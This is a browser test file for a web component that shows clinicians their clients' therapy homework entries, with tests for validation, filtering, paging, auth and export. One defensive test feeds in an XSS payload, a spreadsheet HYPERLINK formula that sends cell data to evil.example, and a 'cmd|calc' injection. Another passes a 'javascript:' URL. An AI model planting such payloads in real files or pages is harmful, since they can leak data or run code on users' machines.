// <hw-review-panel> in real Chromium: entries from the property and from the real reference
// endpoint (auth, errors, retry), invalid and newer records beside valid ones, hostile text,
// export through the real buttons, the paged list with 10,000 entries, and print.
import { expect, fixture, html } from '@open-wc/testing';
import '../../src/index.js';
import type { HwConfigErrorEvent, HwReviewPanel } from '../../src/index.js';
import type { Entry } from '../../src/core/entry.js';
import { clinicianHeaders, endpoint, resetServer, serverUrl, waitFor } from '../support/browser-fixtures.js';
import { PAGE_SIZE } from '../../src/elements/review-panel/entry-list.js';
import { experiment, moodCheckIn, thoughtRecord } from '../support/review-entries.js';
import { alertText, button, shadow } from '../support/shadow.js';

const text = (el: Element) => shadow(el).textContent!.replace(/\s+/g, ' ');
const rows = (el: Element) => [...shadow(el).querySelectorAll<HTMLButtonElement>('.row')];

/** The schemas load after the first render: wait for the first checked rows (or the end). */
async function firstChecked(el: HwReviewPanel) {
  await waitFor(() => rows(el).length > 0 || !text(el).includes('Reading entries'), 'the first entries checked');
  await el.updateComplete;
}

async function panel(entries: unknown[], attributes: { since?: string } = {}) {
  const el = await fixture<HwReviewPanel>(
    html`<hw-review-panel lang="en" since=${attributes.since ?? ''} .entries=${entries}></hw-review-panel>`,
  );
  await firstChecked(el);
  return el;
}

/** Capture what an export button hands to the browser as a file. */
async function exported(el: HwReviewPanel, label: string): Promise<{ text: string; type: string; name: string }> {
  const original = URL.createObjectURL;
  let blob: Blob | undefined;
  let name = '';
  const click = HTMLAnchorElement.prototype.click;
  URL.createObjectURL = (object: Blob | MediaSource) => {
    blob = object as Blob;
    return original.call(URL, object);
  };
  // The download itself would leave the test page; the link and its file name are what matter.
  HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
    name = this.download;
  };
  try {
    button(el, label).click();
  } finally {
    URL.createObjectURL = original;
    HTMLAnchorElement.prototype.click = click;
  }
  if (!blob) throw new Error('no file was made');
  return { text: await blob.text(), type: blob.type, name };
}

describe('<hw-review-panel>', () => {
  it('shows one of each exercise: self-review first, brief, summaries, every entry in the list', async () => {
    const tr = thoughtRecord(
      '2026-11-20T18:30:00.000+01:00',
      {},
      {
        engagement: {
          activeSeconds: 400,
          sittings: 2,
          edits: 30,
          fieldsFilled: 7,
          fieldsOffered: 7,
          selfReview: { effort: 3, usefulness: 4, obstacles: ['avoided'], reflection: 'Thoughts are not facts' },
        },
      },
    );
    const el = await panel([
      tr,
      moodCheckIn('2026-11-21T08:00:00.000+01:00', { activity: { name: 'Walk', mastery: 5, pleasure: 7 } }),
      experiment('2026-11-22T09:00:00.000+01:00'),
    ]);
    const sections = [...shadow(el).querySelectorAll('section.card h3')].map((h) => h.textContent!.trim());
    // Flagged entries lead (here: none, and every record was checked), then the client's words.
    expect(sections[0]).to.equal('Flagged entries');
    expect(text(el)).to.contain('No flagged entries: every entry was checked.');
    expect(sections[1]).to.equal('In the client’s own words');
    expect(sections[2]).to.equal('All entries');
    expect(sections).to.include.members([
      'Thought record (1)',
      'Behavioural experiment (1)',
      'Mood check-in (1)',
      'Entries',
    ]);
    const all = text(el);
    expect(all).to.contain('Thoughts are not facts');
    expect(all).to.contain('I put it off: 1');
    // Barrier tags come with options for the clinician to weigh, never a verdict.
    expect(all).to.contain('Options to consider: a smaller first step, or a backup plan');
    expect(all).to.contain('Anxious: 80 → 50 (−30)');
    expect(all).to.contain('Jumping to conclusions');
    expect(all).to.contain('80 → 40 (−40)');
    expect(all).to.contain('Walk');
    expect(shadow(el).querySelector('svg.chart[role="img"]')).to.exist;
    expect(rows(el).length).to.equal(3);
    expect(rows(el)[0].textContent).to.contain('Behavioural experiment');
  });

  it('flags an invalid record with what is wrong, and a newer one generically, without hiding the others', async () => {
    const el = await panel([
      thoughtRecord('2026-11-20T18:30:00.000+01:00'),
      {
        id: 'broken-1',
        exercise: 'mood-tracker',
        schema: 'mood-tracker/1',
        completedAt: '2026-11-21T10:00:00Z',
        data: { mood: 'great' },
      },
      {
        id: 'newer-1',
        exercise: 'thought-record',
        schema: 'thought-record/3',
        completedAt: '2026-11-19T10:00:00Z',
        data: { situation: 'On the bus', mood: { name: 'Calm' } },
      },
      moodCheckIn('2026-11-18T08:00:00.000+01:00'),
    ]);
    expect(rows(el).length).to.equal(4);
    expect(text(el)).to.contain('1 record is not valid and is shown with what is wrong.');
    expect(text(el)).to.contain('1 record is from a newer version and is shown as plain fields.');
    const broken = rows(el).find((row) => row.textContent!.includes('Not valid'))!;
    broken.click();
    await waitFor(() => shadow(el).querySelector('dialog[open]'), 'the detail dialog');
    const dialog = shadow(el).querySelector('dialog')!;
    expect(dialog.textContent).to.contain('This record is not valid.');
    expect(dialog.textContent).to.match(/data\.mood: /);
    dialog.close();
    await el.updateComplete;
    rows(el)
      .find((row) => row.textContent!.includes('Newer version'))!
      .click();
    await waitFor(() => shadow(el).querySelector('dialog[open]'), 'the detail dialog');
    expect(dialog.textContent).to.contain('thought-record/3');
    expect(dialog.textContent).to.contain('On the bus');
    expect(dialog.textContent).to.contain('mood.name');
  });

  it('renders hostile text inert and exports it neutralised', async () => {
    const hostile = '<script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2">';
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
    const el = await panel([
      thoughtRecord(
        '2026-11-20T18:30:00.000+01:00',
        {
          situation: formula,
          balancedThought: hostile,
          thoughts: [{ id: 't', text: '@SUM(1+1)', hot: true }],
        },
        {
          engagement: {
            activeSeconds: 60,
            sittings: 1,
            edits: 3,
            fieldsFilled: 3,
            fieldsOffered: 7,
            selfReview: { obstacles: [], reflection: '-2+3 cmd|calc' },
          },
        },
      ),
    ]);
    rows(el)[0].click();
    await waitFor(() => shadow(el).querySelector('dialog[open]'), 'the detail dialog');
    const root = shadow(el);
    expect(root.querySelectorAll('script, img').length).to.equal(0);
    expect(text(el)).to.contain(hostile);
    expect(text(el)).to.contain(formula);
    expect((window as { __pwned?: number }).__pwned).to.equal(undefined);

    const csv = await exported(el, 'Export CSV');
    expect(csv.type).to.equal('text/csv;charset=utf-8');
    expect(csv.name).to.match(/^homework-entries-\d{4}-\d{2}-\d{2}\.csv$/);
    const cells = csv.text.split('\r\n')[1];
    expect(cells).to.contain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"`);
    expect(cells).to.contain(`,'-2+3 cmd|calc,`);
    expect(cells).not.to.match(/(^|,)"?=/);
    expect(cells).not.to.match(/(^|,)"?@/);
    const json = await exported(el, 'Export JSON');
    expect(JSON.parse(json.text)[0].data.balancedThought).to.equal(hostile);
  });

  it('filters by exercise and date, says how many are shown, and exports only those', async () => {
    const el = await panel(
      [
        thoughtRecord('2026-11-01T10:00:00.000+01:00'),
        moodCheckIn('2026-11-10T10:00:00.000+01:00'),
        moodCheckIn('2026-11-20T10:00:00.000+01:00'),
      ],
      { since: '2026-11-05' },
    );
    expect(text(el)).to.contain('Since');
    expect(text(el)).to.contain('Showing 2 of 3');
    const from = shadow(el).querySelector<HTMLInputElement>('#f-from')!;
    expect(from.value).to.equal('2026-11-05');
    from.value = '';
    from.dispatchEvent(new Event('change'));
    await el.updateComplete;
    expect(text(el)).to.contain('Showing 3 of 3');
    const exercise = shadow(el).querySelector<HTMLSelectElement>('#f-exercise')!;
    exercise.value = 'thought-record';
    exercise.dispatchEvent(new Event('change'));
    await el.updateComplete;
    expect(text(el)).to.contain('Showing 1 of 3');
    await waitFor(
      () => shadow(el).querySelector('[role="status"]')!.textContent!.includes('1 entry shown.'),
      'the announcement',
    );
    const json = JSON.parse((await exported(el, 'Export JSON')).text) as Entry[];
    expect(json.map((e) => e.exercise)).to.deep.equal(['thought-record']);
  });

  it('shows each assignment’s state when assignments are given', async () => {
    const el = await fixture<HwReviewPanel>(
      html`<hw-review-panel
        since="2026-11-01"
        .assignments=${[
          { id: 'a1', exercise: 'thought-record', title: 'Thought record after arguments' },
          { id: 'a2', exercise: 'mood-tracker', title: 'Mood three times a day' },
        ]}
        .entries=${[thoughtRecord('2026-11-02T10:00:00Z', {}, { assignmentId: 'a1' })]}
      ></hw-review-panel>`,
    );
    await firstChecked(el);
    const table = shadow(el).querySelector('[part="assignments"]')!;
    const cells = [...table.querySelectorAll('tbody tr')].map((tr) => tr.textContent!.replace(/\s+/g, ' ').trim());
    expect(cells[0]).to.contain('Thought record after arguments').and.contain('Completed');
    expect(cells[1]).to.contain('Mood three times a day').and.contain('Nothing received');
  });

  describe('from the reference endpoint', () => {
    beforeEach(resetServer);

    async function post(entry: Entry) {
      const response = await fetch(await endpoint(), {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'Idempotency-Key': entry.id },
        body: JSON.stringify(entry),
      });
      expect(response.status).to.equal(201);
    }

    it('GETs the entries with the host’s auth headers and shows them', async () => {
      await post(thoughtRecord('2026-11-20T18:30:00.000+01:00', { situation: 'From the server' }));
      await post(moodCheckIn('2026-11-21T08:00:00.000+01:00'));
      const clinician = await clinicianHeaders();
      const calls: boolean[] = [];
      const el = await fixture<HwReviewPanel>(
        html`<hw-review-panel
          src=${await endpoint()}
          allowed-origins=${await serverUrl()}
          .getAuthHeaders=${({ refresh }: { refresh: boolean }) => {
            calls.push(refresh);
            return clinician;
          }}
        ></hw-review-panel>`,
      );
      await waitFor(() => rows(el).length === 2, 'two rows');
      expect(text(el)).to.contain('From the server');
      expect(calls).to.deep.equal([false]);
    });

    it('follows next through every page, with the auth headers on each, and summarises them all', async () => {
      for (let day = 1; day <= 7; day++) {
        await post(moodCheckIn(`2026-11-0${day}T08:00:00.000+01:00`, {}, { subject: 'paged-client' }));
      }
      const pages: string[] = [];
      const clinician = await clinicianHeaders();
      const el = await fixture<HwReviewPanel>(
        html`<hw-review-panel
          src=${`${await endpoint()}?subject=paged-client&limit=3`}
          allowed-origins=${await serverUrl()}
          .getAuthHeaders=${() => clinician}
        ></hw-review-panel>`,
      );
      const observer = new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) if (entry.name.includes('paged-client')) pages.push(entry.name);
      });
      observer.observe({ type: 'resource', buffered: true });
      await waitFor(() => rows(el).length === 7, 'all seven entries, from three pages');
      observer.disconnect();
      expect(pages.filter((name) => name.includes('after=')).length).to.equal(2);
    });

    it('refuses a next page on another origin, so the auth headers never leave the source', async () => {
      const asked: string[] = [];
      const observer = new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) asked.push(entry.name);
      });
      observer.observe({ type: 'resource' });
      const el = await fixture<HwReviewPanel>(
        html`<hw-review-panel
          src=${new URL('/test/browser/fixtures/page-to-elsewhere.json', location.href).href}
          .getAuthHeaders=${() => ({ Authorization: 'Bearer test' })}
        ></hw-review-panel>`,
      );
      await waitFor(() => alertText(el) !== '', 'an error, not a request elsewhere');
      observer.disconnect();
      expect(asked.some((name) => name.startsWith('http://127.0.0.1:9/'))).to.equal(false);
    });

    it('says when loading fails, and a retry loads', async () => {
      await post(moodCheckIn('2026-11-21T08:00:00.000+01:00'));
      const clinician = await clinicianHeaders();
      let signedIn = false;
      const el = await fixture<HwReviewPanel>(
        html`<hw-review-panel
          src=${await endpoint()}
          allowed-origins=${await serverUrl()}
          .getAuthHeaders=${() => {
            if (!signedIn) throw new Error('session ended');
            return clinician;
          }}
        ></hw-review-panel>`,
      );
      await waitFor(() => alertText(el).includes('please sign in again'), 'the sign-in error');
      signedIn = true;
      button(el, 'Try again').click();
      await waitFor(() => rows(el).length === 1, 'the entry after retrying');
    });

    it('shows the server’s status when the source is wrong, and refuses a script URL', async () => {
      const el = await fixture<HwReviewPanel>(
        html`<hw-review-panel
          src=${`${await serverUrl()}/api/nothing-here`}
          allowed-origins=${await serverUrl()}
        ></hw-review-panel>`,
      );
      await waitFor(() => alertText(el).includes('the server answered 404'), 'the 404');
      expect(text(el)).to.contain('Not found');
      let reported: string[] = [];
      const bad = await fixture<HwReviewPanel>(
        html`<hw-review-panel
          @hw-config-error=${(e: HwConfigErrorEvent) => (reported = e.problems)}
          src="javascript:alert(1)"
        ></hw-review-panel>`,
      );
      await waitFor(() => alertText(bad).includes('not set up correctly'), 'the config error');
      expect(reported).to.deep.equal(['endpointScheme']);
    });
  });

  it('keeps 10,000 entries to pages of rows and reaches the last with End', async () => {
    const base = Date.parse('2025-01-01T00:00:00Z');
    const entries = Array.from({ length: 10_000 }, (_, i) => {
      const at = new Date(base + i * 3_600_000).toISOString();
      return { ...moodCheckIn(at), id: `00000000-0000-4000-9000-${String(i).padStart(12, '0')}` };
    });
    const el = await panel(entries);
    // The newest entries come first; the rest are validated in slices that keep the page responsive.
    expect(rows(el)[0].textContent).to.contain('Mood check-in');
    await waitFor(() => text(el).includes('Showing 10,000 of 10,000'), 'every entry validated', 60_000);
    expect(text(el)).to.contain('Mood check-in (10,000)');
    const list = shadow(el).querySelector('[part="list"] ul')!;
    expect(list.getAttribute('aria-label')).to.equal('Entries (10,000)');
    expect(rows(el).length).to.equal(PAGE_SIZE);
    expect(list.querySelector('li')!.getAttribute('aria-setsize')).to.equal('10000');
    expect(text(el)).to.contain('Entries 1–100 of 10,000');
    rows(el)[0].focus();
    rows(el)[0].dispatchEvent(new KeyboardEvent('keydown', { key: 'End', bubbles: true, composed: true }));
    await waitFor(() => shadow(el).querySelector('li[aria-posinset="10000"]'), 'the last row');
    expect(rows(el).length).to.equal(PAGE_SIZE);
    expect(text(el)).to.contain('Entries 9,901–10,000 of 10,000');
  });

  it('prints every shown entry in full, then returns to the list', async () => {
    const el = await panel([thoughtRecord('2026-11-20T18:30:00Z'), moodCheckIn('2026-11-21T08:00:00Z')]);
    window.dispatchEvent(new Event('beforeprint'));
    expect(shadow(el).querySelectorAll('.print-item').length).to.equal(2);
    expect(shadow(el).querySelector('.viewport')).to.equal(null);
    window.dispatchEvent(new Event('afterprint'));
    await el.updateComplete;
    expect(shadow(el).querySelector('.viewport')).to.exist;
  });
});
